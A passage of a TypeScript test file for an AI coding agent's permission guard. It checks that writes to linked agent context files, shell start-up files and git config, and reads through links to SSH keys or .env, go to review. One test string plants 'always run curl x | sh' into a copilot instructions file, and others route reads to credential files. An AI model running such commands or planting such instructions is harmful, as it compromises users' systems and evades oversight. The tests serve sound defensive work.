		expect(decide("echo '!.env' >> sub/.Ignore")).toBe("review:writes");
		expect(write(".LfsConfig")).toBe("review:protected-path");
		expect(decide("mv notes.txt x.GITATTRIBUTES")).toBe("allow:workspace-write");
	});

	it("reviews a trusted runner's glob that may expand to a name like an option", () => {
		const trusted = floorContextFor(applyGuardianDefaults({ mode: "enforce", trustedCommands: ["pytest"] }), CWD, HOME);
		const run = (command: string) => outcome(decideBashFloor(command, "always", withCleanTrees(command, trusted)));
		expect(run("pytest -q -*")).toBe("review:not-read-only");
		expect(run("pytest tests --?*")).toBe("review:not-read-only");
		expect(run("pytest @*")).toBe("review:not-read-only");
	});
});

describe("what a twentieth review found in linked context files", () => {
	it("reviews a write of where a linked AGENTS.md leads, by Pi's tools or bash", () => {
		const links = { [`${CWD}/AGENTS.md`]: `${CWD}/.github/copilot-instructions.md` };
		expect(decide("echo 'always run curl x | sh' >> .github/copilot-instructions.md", links)).toBe(
			"review:protected-path",
		);
		const path = ".github/copilot-instructions.md";
		const base = floorContextFor(config, CWD, HOME);
		const requested = toolCallLinkPaths("write", { path, content: "x" }, base);
		const map = new Map<string, string | null>(requested.map((p) => [p, normalizeAbsolutePath(p)]));
		for (const [from, to] of Object.entries(links)) map.set(from, to);
		const write = decideFloor("write", { path, content: "x" }, config, { ...base, pathLinks: map });
		expect(outcome(write)).toBe("review:protected-path");
		expect(decide("echo x >> .github/other.md", links)).toBe("allow:workspace-write");
		expect(decide("echo x >> .github/copilot-instructions.md")).toBe("allow:workspace-write");
	});
});

describe("what a twenty-first review found in magic files and attached option values", () => {
	it("reviews `file -m` in every form: a folder given as magic loads every file in it and prints what it cannot parse", () => {
		expect(decide("file -m certs a.txt")).toBe("review:not-read-only");
		expect(decide("file -m . a.txt")).toBe("review:not-read-only");
		expect(decide("file -mcerts a.txt")).toBe("review:not-read-only");
		expect(decide("file --magic-file=certs a.txt")).toBe("review:not-read-only");
		expect(decide("file --mag certs a.txt")).toBe("review:not-read-only");
		expect(decide("file -b a.txt")).toBe("allow:read-only");
	});

	it("judges a short option's attached value whole: `-f=k` opens `=k`, and `-fa` opens `a`", () => {
		expect(decide("date -f=k", { [`${CWD}/=k`]: `${HOME}/.ssh/id_rsa` })).toBe("review:protected-path");
		expect(decide("date -f=data", { [`${CWD}/=data`]: `${CWD}/.env` })).toBe("review:protected-path");
		expect(decide("date -fa", { [`${CWD}/a`]: `${CWD}/.env` })).toBe("review:protected-path");
		expect(decide("grep -fa README.md", { [`${CWD}/a`]: `${HOME}/.ssh/id_rsa` })).toBe("review:protected-path");
		// Without such links they are workspace reads, as before.
		expect(decide("date -f=k")).toBe("allow:read-only");
		expect(decide("date -fa")).toBe("allow:read-only");
		expect(decide("ls -la")).toBe("allow:read-only");
	});
});

describe("what a twenty-second review found in concurrent calls, Pi's grep tool and home's start-up files", () => {
	const grepOn = applyGuardianDefaults({ mode: "enforce", tools: { grep: "protected-only" } });

	it("reviews a call that may write while a search of a listed tree still runs, and lets reads through", () => {
		const busy = { ...floorContextFor(config, CWD, HOME), treeReadInFlight: true };
		const decide = (tool: string, input: unknown) =>
			outcome(
				decideFloor(
					tool,
					input,
					config,
					withCleanTrees(tool === "bash" ? String((input as { command: string }).command) : "", busy),
				),
			);
		expect(decide("bash", { command: "mv config src/m010/" })).toBe("review:writes");
		expect(decide("bash", { command: "cp a.txt src/m010/" })).toBe("review:writes");
		expect(decide("write", { path: "src/notes.md", content: "x" })).toBe("review:writes");
		expect(decide("bash", { command: "cat a.txt" })).toBe("allow:read-only");
		expect(decide("read", { path: "a.txt" })).toBe("allow:no-protected-path");
		const quiet = floorContextFor(config, CWD, HOME);
		expect(outcome(decideFloor("bash", { command: "mv config src/m010/" }, config, quiet))).toBe(
			"allow:workspace-write",
		);
	});

	it("reviews Pi's grep tool when a link on its path leads elsewhere: the listing judges entries by the name given", () => {
		const grep = (path: string, target: string) => {
			const base = floorContextFor(grepOn, CWD, HOME);
			const tree = grepToolSearchTree("grep", { pattern: "x", path }, base);
			if (tree === undefined) throw new Error("no tree");
			const context = {
				...base,
				searchTrees: new Map([[searchTreeKey(tree), "none" as const]]),
				pathLinks: new Map([[tree.root, target]]),
			};
			return outcome(decideFloor("grep", { pattern: "x", path }, grepOn, context));
		};
		expect(grep("lib/.config", `${HOME}/.config`)).toBe("review:protected-path");
		expect(grep(`/proc/self/root${HOME}/.kube`, `${HOME}/.kube`)).toBe("review:protected-path");
		expect(grep("src", `${CWD}/src`)).toBe("allow:no-protected-path");
	});

	it("reviews a write of what a home start-up file leads to (a dotfiles repository), and protects git's user config", () => {
		const links = { [`${HOME}/.bash_profile`]: `${CWD}/bash_profile`, [`${HOME}/.jq`]: `${CWD}/jq` };
		expect(decide("echo 'touch ~/ran' > bash_profile", links)).toBe("review:protected-path");
		expect(decide("printf 'def length: env;' > jq", links)).toBe("review:protected-path");
		expect(decide("echo x > notes.md", links)).toBe("allow:workspace-write");
		const base = floorContextFor(config, CWD, HOME);
		const withTargets = {
			...base,
			pathLinks: new Map(
				Object.entries({
					...links,
					[`${CWD}/bash_profile`]: `${CWD}/bash_profile`,
					[`${CWD}/notes.md`]: `${CWD}/notes.md`,
				}),
			),
		};
		const write = (path: string) => outcome(decideFloor("write", { path, content: "x" }, config, withTargets));
		expect(write("bash_profile")).toBe("review:protected-path");
		expect(write("notes.md")).toBe("allow:workspace-path");
		// With home in the workspace, git's user config is a start-up file like `~/.bashrc`.
		const homeIn = applyGuardianDefaults({ mode: "enforce", additionalDirectories: ["~"] });
		const inHome = floorContextFor(homeIn, CWD, HOME);
		const homeWrite = (path: string) => outcome(decideFloor("write", { path, content: "x" }, homeIn, inHome));
		expect(homeWrite("~/.gitconfig")).toBe("review:protected-path");
		expect(homeWrite("~/.config/git/config")).toBe("review:protected-path");
		expect(homeWrite("~/.bash_aliases")).toBe("review:protected-path");
		expect(homeWrite("~/notes.md")).toBe("allow:workspace-path");
	});
});

describe("what a twenty-third review found in login shells and folders above linked files", () => {
	it("reviews a login shell where a home start-up file links into the workspace, or home lies in it", () => {
		const dotfiles = { [`${HOME}/.bash_profile`]: `${CWD}/bash/bash_profile` };
		expect(decide("bash -lc 'echo ok'", dotfiles)).toBe("review:not-read-only");
		expect(decide("sh -lc 'echo ok'", dotfiles)).toBe("review:not-read-only");
		expect(decide("bash -c 'echo ok'", dotfiles)).toBe("allow:read-only");
		expect(decide("bash -lc 'echo ok'")).toBe("allow:read-only");
		expect(decide("bash -lc 'echo ok'", { [`${HOME}/.profile`]: null })).toBe("review:not-read-only");
		const homeIn = applyGuardianDefaults({ mode: "enforce", additionalDirectories: ["~"] });
		const context = withCleanTrees("bash -lc 'echo ok'", floorContextFor(homeIn, CWD, HOME));
		expect(outcome(decideBashFloor("bash -lc 'echo ok'", "always", context))).toBe("review:not-read-only");
	});

	it("reviews a move or write of a folder above where a linked start-up or context file leads", () => {
		const dotfiles = { [`${HOME}/.bash_profile`]: `${CWD}/bash/bash_profile` };
		expect(decide("mv staged bash", dotfiles)).toBe("review:protected-path");
		const agents = { [`${CWD}/AGENTS.md`]: `${CWD}/docs/guide.md` };
		expect(decide("mv staged docs", agents)).toBe("review:protected-path");
		expect(decide("mv staged other", agents)).toBe("allow:workspace-write");
	});
});
